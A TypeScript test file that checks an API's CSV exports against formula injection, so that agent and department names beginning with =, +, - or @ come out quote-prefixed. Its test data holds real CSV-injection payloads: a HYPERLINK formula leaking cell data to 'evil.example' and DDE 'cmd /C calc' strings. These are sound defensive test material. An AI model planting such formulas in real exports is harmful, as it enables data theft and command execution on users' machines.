import { parseString } from 'fast-csv';
import t from 'tap';
import { insertDepartment } from '../src/domains/departments/repository.ts';
import { formulaSafe, numberCell } from '../src/domains/reports/csv.ts';
import { agentWithToken, buildTestApp, makeDepartment, type TestContext } from './helpers/app.ts';

// CSV exports carry no formulas (issue 12, section 3; OWASP "CSV Injection"): a text cell that a
// spreadsheet would read as a formula gets a leading ', numbers stay numbers.

function parseCsv(text: string): Promise<string[][]> {
  return new Promise((resolve, reject) => {
    const rows: string[][] = [];
    parseString(text, { headers: false })
      .on('data', (row: string[]) => rows.push(row))
      .on('error', reject)
      .on('end', () => resolve(rows));
  });
}

/** The CSV export as rows of objects keyed by the header labels. */
async function exportCsv(ctx: TestContext, token: string, url: string) {
  const res = await ctx.request({ method: 'GET', url, token });
  if (res.statusCode !== 200) throw new Error(`${url}: ${res.statusCode} ${res.body}`);
  const [header = [], ...rows] = await parseCsv(res.body);
  return { text: res.body, rows: rows.map((row) => Object.fromEntries(header.map((h, i) => [h, row[i]]))) };
}

// What an agent may type as a name (stored trimmed), and what the CSV cell must then hold.
const NAMES: [string, string, string][] = [
  [
    'equals',
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    `'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
  ],
  ['plus', '+1+cmd|" /C calc"!A0', `'+1+cmd|" /C calc"!A0`],
  ['minus', '-2+3', `'-2+3`],
  ['at', '@SUM(1+1)*cmd|" /C calc"!A0', `'@SUM(1+1)*cmd|" /C calc"!A0`],
  ['a leading tab (trimmed when stored, leaving the =)', '\t=1+1', `'=1+1`],
  ['a leading CR (trimmed when stored)', '\r=1+1', `'=1+1`],
  ['full-width equals', '＝1+1', `'＝1+1`],
  ['full-width plus', '＋1+1', `'＋1+1`],
  ['full-width minus', '－1+1', `'－1+1`],
  ['full-width at', '＠SUM(1)', `'＠SUM(1)`],
  ['a plain name', 'Dana Reyes', 'Dana Reyes'],
  ['a formula character later on', 'Dana =Reyes-Smith', 'Dana =Reyes-Smith'],
  ['quotes and commas', 'Reyes, "Dana"', 'Reyes, "Dana"'],
];

t.test('agent names in agents.csv', async (t) => {
  const ctx = await buildTestApp(t);
  const owner = await agentWithToken(ctx, { role: 'owner' });
  const agent = await agentWithToken(ctx, { role: 'agent' });
  for (const [what, name, cell] of NAMES) {
    const patched = await ctx.request({
      method: 'PATCH',
      url: '/v1/me',
      token: agent.token,
      payload: { name },
    });
    t.equal(patched.statusCode, 200, `${what}: any agent may call themselves that`);
    const { rows } = await exportCsv(ctx, owner.token, '/v1/reports/agents.csv');
    const row = rows.find((r) => r['Agent ID'] === agent.agent.id);
    t.equal(row?.Agent, cell, what);
  }
  const json = await ctx.request({ method: 'GET', url: '/v1/reports/agents', token: owner.token });
  const mine = json.json().data.find((r: { agent_id: string }) => r.agent_id === agent.agent.id);
  t.equal(mine.agent_name, NAMES.at(-1)?.[1], 'JSON carries the name as it is');
});

t.test('department names in departments.csv, numbers as numbers', async (t) => {
  const ctx = await buildTestApp(t);
  const owner = await agentWithToken(ctx, { role: 'owner' });
  const department = await makeDepartment(ctx.db, 'Sales');
  const created = await ctx.request({
    method: 'POST',
    url: '/v1/tickets',
    token: owner.token,
    payload: {
      subject: 'Hello',
      channel: 'email',
      contact: { email: 'jo@example.com' },
      message: { body: 'Hi' },
      department_id: department,
    },
  });
  t.equal(created.statusCode, 201);
  const url = '/v1/reports/departments.csv?columns=created_tickets,answers&unit_row=true';
  for (const [what, name, cell] of NAMES) {
    const patched = await ctx.request({
      method: 'PATCH',
      url: `/v1/departments/${department}`,
      token: owner.token,
      payload: { name },
    });
    t.equal(patched.statusCode, 200, `${what}: a manager may name a department that`);
    const { rows } = await exportCsv(ctx, owner.token, url);
    const row = rows.find((r) => r['Department ID'] === department);
    t.equal(row?.Department, cell, what);
    t.equal(row?.['Created tickets'], '1', 'the count stays a number');
  }
  const { text } = await exportCsv(ctx, owner.token, url);
  t.match(text, new RegExp(`\n${department},"Reyes, ""Dana""",1,0(\n|$)`), 'numbers are written bare');

  // Names the API would trim may still come from elsewhere (older data, a bulk load, SQL).
  // A tab or line break is also where a reader splitting on it starts a new cell: the = after it
  // gets its own '.
  const raw: [string, string, string][] = [
    ['a leading tab', '\t=1+1', "'\t'=1+1"],
    ['a leading CR', '\r=1+1', "'\r'=1+1"],
    ['a leading LF', '\n=1+1', "'\n'=1+1"],
    ['spaces before the =', '  =1+1', "'  =1+1"],
  ];
  for (const [what, name, cell] of raw) {
    const { id } = await insertDepartment(ctx.db, { name: `${name} ${what}` });
    const { rows } = await exportCsv(ctx, owner.token, url);
    t.equal(rows.find((r) => r['Department ID'] === id)?.Department, `${cell} ${what}`, what);
  }
});

t.test('the cell rules', async (t) => {
  const cases: [string, string][] = [
    ['=1+1', `'=1+1`],
    ['+1', `'+1`],
    ['-1', `'-1`], // in a text column even a number-like name is text
    ['@a', `'@a`],
    ['\ta', `'\ta`],
    ['\ra', `'\ra`],
    ['\na', `'\na`],
    [' \t=1', ` \t'=1`],
    ['a;=1', "a;'=1"], // Excel's separator in much of Europe: a new cell there
    ['a; -1', "a; '-1"],
    ['a\t@b', "a\t'@b"],
    ['a\n+b', "a\n'+b"],
    ['a;b=1', 'a;b=1'],
    ['a;"=1"', `a;"'=1"`], // that reader takes a quote opening its cell as quoting
    ['a,=1', 'a,=1'], // quoted when written: , splits nothing
    ['＝1', `'＝1`],
    ['＋1', `'＋1`],
    ['－1', `'－1`],
    ['＠a', `'＠a`],
    ['', ''],
    ['a=1', 'a=1'],
    ["'=1", "'=1"],
  ];
  for (const [text, safe] of cases) t.equal(formulaSafe(text), safe, JSON.stringify(text));
  t.equal(numberCell(-5), -5, 'a negative number stays a number');
  t.equal(numberCell('-5'), '-5', 'so does one PostgreSQL sent as text');
  t.equal(numberCell('12.50'), '12.50');
  t.equal(numberCell('1e-7'), '1e-7');
  t.equal(numberCell(''), '', 'no figure stays empty');
  t.equal(numberCell('-1+1'), `'-1+1`, 'a formula is not a number');
});
